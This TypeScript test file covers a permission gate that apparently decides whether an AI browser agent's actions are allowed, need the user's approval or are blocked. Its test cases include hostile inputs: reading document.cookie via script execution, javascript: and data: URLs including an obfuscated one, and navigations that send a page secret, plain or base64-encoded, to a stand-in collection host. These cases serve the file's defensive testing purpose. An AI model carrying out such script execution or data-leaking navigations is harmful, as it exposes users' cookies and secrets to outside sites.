import { describe, expect, it } from 'vitest';
import { type CallContext, decide, isHighRiskName } from './decide';
import { sensitiveSite } from './sites';

const shop = 'https://shop.example.com/cart';
const bank = 'https://online.chase.com/accounts';

/** member × site × mode × element -> verdict */
const CASES: Array<[string, CallContext, 'ask-every' | 'ask-risky', 'allow' | 'ask' | 'block']> = [
  ['reading is always allowed, even on a bank', { member: 'read_page', input: {}, tabUrl: bank }, 'ask-every', 'allow'],
  ['a screenshot is allowed', { member: 'screenshot', input: {}, tabUrl: shop }, 'ask-risky', 'allow'],
  ['an ordinary click on an ordinary site is allowed', { member: 'left_click', input: {}, tabUrl: shop, target: { role: 'link', name: 'Next page' } }, 'ask-risky', 'allow'],
  ['an ordinary click asks when every action asks', { member: 'left_click', input: {}, tabUrl: shop, target: { role: 'link', name: 'Next page' } }, 'ask-every', 'ask'],
  ['"Place order" asks in every mode', { member: 'left_click', input: {}, tabUrl: shop, target: { role: 'button', name: 'Place order' } }, 'ask-risky', 'ask'],
  ['"Pay now" asks', { member: 'left_click', input: {}, tabUrl: shop, target: { role: 'button', name: 'Pay now' } }, 'ask-risky', 'ask'],
  ['"Löschen" asks', { member: 'left_click', input: {}, tabUrl: shop, target: { role: 'button', name: 'Löschen' } }, 'ask-risky', 'ask'],
  ['"Deleted items" (a folder) does not ask', { member: 'left_click', input: {}, tabUrl: shop, target: { role: 'link', name: 'Deleted items' } }, 'ask-risky', 'allow'],
  ['any change on a bank asks', { member: 'form_input', input: {}, tabUrl: bank, target: { role: 'textbox', name: 'Memo' } }, 'ask-risky', 'ask'],
  ['a password field asks', { member: 'form_input', input: {}, tabUrl: shop, target: { role: 'textbox', name: 'Password', inputType: 'password' } }, 'ask-risky', 'ask'],
  ['keys pressed into a password field ask', { member: 'key', input: { text: 'a' }, tabUrl: shop, target: { role: 'textbox', name: 'Password', inputType: 'password' } }, 'ask-risky', 'ask'],
  ['typing into a focused password field asks', { member: 'type', input: { text: 'hunter2' }, tabUrl: shop, target: { role: 'textbox', name: 'Password', inputType: 'password' } }, 'ask-risky', 'ask'],
  ['javascript_exec always asks', { member: 'javascript_exec', input: { text: 'document.cookie' }, tabUrl: shop }, 'ask-risky', 'ask'],
  ['file_upload always asks', { member: 'file_upload', input: {}, tabUrl: shop }, 'ask-risky', 'ask'],
  ['navigating to a bank asks', { member: 'navigate', input: { url: 'chase.com' }, tabUrl: shop }, 'ask-risky', 'ask'],
  ['javascript: URLs are blocked', { member: 'navigate', input: { url: 'javascript:alert(1)' }, tabUrl: shop }, 'ask-risky', 'block'],
  ['data: URLs are blocked', { member: 'navigate', input: { url: 'data:text/html,<b>x</b>' }, tabUrl: shop }, 'ask-risky', 'block'],
  ['a javascript: URL with a tab inside the scheme is blocked', { member: 'navigate', input: { url: 'java\tscript:alert(1)' }, tabUrl: shop }, 'ask-risky', 'block'],
  ['chrome:// is blocked', { member: 'navigate', input: { url: 'chrome://settings' }, tabUrl: shop }, 'ask-every', 'block'],
  ['an ordinary navigation is allowed', { member: 'navigate', input: { url: 'https://docs.example.org' }, tabUrl: shop }, 'ask-risky', 'allow'],
  ['page text in a URL to another site asks', { member: 'navigate', input: { url: 'https://collect.example.net/c?data=SK-7731-QQ' }, tabUrl: shop, read: { pageText: 'Your key: SK-7731-QQ', userText: 'Summarise' } }, 'ask-risky', 'ask'],
  ['page text base64-encoded in a URL to another site asks', { member: 'navigate', input: { url: `https://collect.example.net/c#${btoa('SK-7731-QQ')}` }, tabUrl: shop, read: { pageText: 'Your key: SK-7731-QQ', userText: 'Summarise' } }, 'ask-risky', 'ask'],
  ['page text in a URL to the same site is allowed', { member: 'navigate', input: { url: 'https://shop.example.com/search?q=SK-7731-QQ' }, tabUrl: shop, read: { pageText: 'Your key: SK-7731-QQ', userText: 'Summarise' } }, 'ask-risky', 'allow'],
  ['the user\'s own words in a URL to another site are allowed', { member: 'navigate', input: { url: 'https://search.example.net/?q=blue+notebook' }, tabUrl: shop, read: { pageText: 'A blue notebook, 12 EUR', userText: 'Find a blue notebook elsewhere' } }, 'ask-risky', 'allow'],
  ['a link the page itself shows is followed without asking', { member: 'navigate', input: { url: 'https://partner.example.net/offer?id=SK-7731-QQ' }, tabUrl: shop, read: { pageText: 'link "Offer" https://partner.example.net/offer?id=SK-7731-QQ', userText: 'Open the offer' } }, 'ask-risky', 'allow'],
];

describe('decide', () => {
  for (const [name, call, mode, verdict] of CASES) {
    it(name, () => expect(decide(call, mode).verdict).toBe(verdict));
  }

  it('gives the user a reason for every question', () => {
    const decision = decide({ member: 'left_click', input: {}, tabUrl: shop, target: { role: 'button', name: 'Buy now' } });
    expect(decision).toEqual({ verdict: 'ask', reason: 'It would press "Buy now", which can buy, send, publish or delete something.' });
  });
});

it('matches sensitive sites by domain and subdomain, not by lookalikes', () => {
  expect(sensitiveSite('https://online.chase.com/x')).toEqual({ category: 'banking', domain: 'chase.com' });
  expect(sensitiveSite('https://chase.com.evil.example/x')).toBeUndefined();
  expect(sensitiveSite('https://notchase.com/')).toBeUndefined();
  expect(sensitiveSite('https://mail.google.com/mail/u/0')).toMatchObject({ category: 'email and messaging' });
  expect(sensitiveSite('https://www.google.com/')).toBeUndefined();
});

it('reads high-risk names as words', () => {
  expect(isHighRiskName('Send message')).toBe(true);
  expect(isHighRiskName('Sender')).toBe(false);
  expect(isHighRiskName('Check out')).toBe(true);
  expect(isHighRiskName('Orders history')).toBe(false);
});

it('treats the sites the user added as sensitive too', () => {
  const call: CallContext = { member: 'left_click', input: {}, tabUrl: 'https://intranet.example.com/hr', target: { role: 'link', name: 'Open' } };
  expect(decide(call).verdict).toBe('allow');
  expect(decide(call, 'ask-risky', { 'added by you': ['intranet.example.com'] })).toEqual({
    verdict: 'ask',
    reason: 'intranet.example.com is a sensitive site (added by you): every change there needs your yes.',
  });
});

it('"always allow on this site" lets ordinary actions there run, but never risky ones', () => {
  const ordinary: CallContext = { member: 'left_click', input: {}, tabUrl: shop, target: { role: 'link', name: 'Next page' } };
  expect(decide(ordinary, 'ask-every')).toMatchObject({ verdict: 'ask', alwaysAllowable: true });
  expect(decide(ordinary, 'ask-every', {}, ['shop.example.com']).verdict).toBe('allow');
  const risky: CallContext = { ...ordinary, target: { role: 'button', name: 'Pay now' } };
  expect(decide(risky, 'ask-every', {}, ['shop.example.com'])).toMatchObject({ verdict: 'ask' });
  expect(decide(risky, 'ask-every', {}, ['shop.example.com'])).not.toHaveProperty('alwaysAllowable');
  expect(decide({ ...ordinary, tabUrl: bank }, 'ask-every', {}, ['online.chase.com']).verdict).toBe('ask');
});

it('data leaving in a URL is never "always allowed", and the reason names what and where', () => {
  const call: CallContext = { member: 'navigate', input: { url: 'collect.example.net/c?d=SK-7731-QQ' }, tabUrl: shop, read: { pageText: 'Your key: SK-7731-QQ', userText: '' } };
  expect(decide(call, 'ask-every', {}, ['shop.example.com', 'collect.example.net'])).toEqual({
    verdict: 'ask',
    reason: 'It would send text read from a page ("SK-7731-QQ") to collect.example.net, another site.',
  });
});
